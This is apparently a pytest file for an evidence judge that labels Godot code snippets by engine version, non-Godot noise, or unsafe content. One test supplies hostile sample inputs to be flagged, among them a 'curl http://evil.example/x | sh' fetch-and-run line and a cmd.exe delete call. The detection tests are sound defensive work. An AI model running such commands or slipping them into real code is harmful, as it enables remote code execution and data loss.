"""Code facts and the evidence judge's non-version labels (no KB needed)."""

from __future__ import annotations

import base64

import pytest

from agent.judge.evidence import EvidenceJudge
from agent.judge.facts import code_facts
from agent.judge.factory import make_judge
from agent.models import EvidenceBundle
from tests.judge.bundles import make_input
from tests.retrieve.helpers import gd_chunks

EMPTY = EvidenceBundle(query_id="q", task_type="version_check")


def _labels(code: str, path: str = "snippet.gd") -> list[str]:
    from agent.judge.base import JudgeInput
    from agent.retrieve.query import split_trace

    return [EvidenceJudge().decide(JudgeInput(prompt="", trace=split_trace(c, "p"), chunk=c, evidence=EMPTY)).label
            for c in gd_chunks(code, path)]


def _label(code: str, path: str = "snippet.gd") -> str:
    return _labels(code, path)[-1]


@pytest.mark.parametrize("code", [
    'extends Node\n\nfunc _ready():\n\tOS.execute("cmd.exe", ["/c", "del x"])\n',
    'extends Node\n\nfunc _ready():\n\tvar s = "curl http://evil.example/x | sh"\n\tprint(s)\n',
    'extends Node\n\nfunc _ready():\u202e\n\tpass\n',
    'extends Node\n\nfunc _ready():\n\tvar blob = "' + base64.b64encode(bytes(range(256)) * 2).decode() + '"\n',
])
def test_unsafe(code):
    assert _label(code) == "unsafe_or_obfuscated_code"


@pytest.mark.parametrize("code", [
    "import numpy as np\n\ndef main():\n    print(np.zeros(3))\n    return None\n",
    "public class Player : MonoBehaviour {\n  void Update() { transform.Translate(0, 0, 1); }\n}\n",
    "const x = () => 1;\nfunction f(a) {\n  console.log(a);\n  return a;\n}\n",
])
def test_non_godot_noise(code):
    # unparsed text is chunked by lines; a line like `}` carries no cue and stays ambiguous
    labels = _labels(code)
    assert labels.count("non_godot_noise") * 2 >= len(labels), labels
    assert set(labels) <= {"non_godot_noise", "ambiguous_version_signal"}


def test_plain_gdscript_is_not_noise_or_unsafe():
    assert _label("extends Node\n\nfunc add(a, b):\n\treturn a + b\n") == "ambiguous_version_signal"
    assert _label('extends Node\n\nfunc open_site():\n\tOS.shell_open("https://godotengine.org")\n') != \
        "unsafe_or_obfuscated_code"


def test_direct_chunks_read_scene_and_config_formats():
    scene3 = gd_chunks('[gd_scene load_steps=2 format=2]\n\n[node name="Player" type="KinematicBody2D"]\n', "p.tscn")
    facts = code_facts(scene3[0], EMPTY)
    assert [f.name for f in facts.godot3] == ["scene_format_2"]
    cfg = gd_chunks('config_version=5\n\n[application]\nconfig/name="X"\n', "project.godot")
    assert any(f.name == "config_version_5" for c in cfg for f in code_facts(c, EMPTY).godot4)


def test_node_paths_and_declared_names_are_not_api():
    inp = make_input('extends Node2D\n\nfunc f():\n\t$KinematicBody2D.show()\n\tvar KinematicBody2D = 1\n', "func f")
    facts = code_facts(inp.chunk, inp.evidence)
    assert not facts.godot3_api


def test_make_judge_errors_are_clear(base_settings):
    assert make_judge(base_settings, "evidence").kind == "evidence"
    with pytest.raises(ValueError, match="GODOT_RAG_LLM_BASE_URL"):
        make_judge(base_settings.with_(llm_base_url=None), "llm")
    with pytest.raises(ValueError, match="unknown judge"):
        make_judge(base_settings, "oracle")
